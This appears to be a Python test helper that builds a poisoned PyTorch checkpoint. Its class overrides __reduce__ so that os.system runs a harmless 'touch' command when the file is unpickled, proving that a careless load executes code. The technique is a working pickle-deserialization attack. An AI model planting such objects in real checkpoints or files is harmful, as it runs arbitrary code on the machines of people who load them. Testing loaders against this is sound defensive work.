"""A checkpoint that runs a command when it is read carelessly."""

import os
import pickle
from pathlib import Path
from typing import Any, Tuple

import torch


class Shout:
    """Runs a command when it is unpickled."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> Tuple[Any, ...]:
        return os.system, (f'touch {self.path}', )


def spoil(source: str, target: Path, proof: Path) -> str:
    """Write a copy of a checkpoint that makes ``proof`` when unpickled.

    Args:
        source (str): A checkpoint.
        target (Path): The copy.
        proof (Path): The file whose presence shows that code ran.

    Returns:
        str: ``target``.
    """
    saved = torch.load(source, map_location='cpu', weights_only=False)
    saved['extra'] = Shout(proof)
    torch.save(saved, target)
    pickle.loads(pickle.dumps(Shout(proof)))  # the bait is live
    assert proof.exists()
    proof.unlink()
    return str(target)
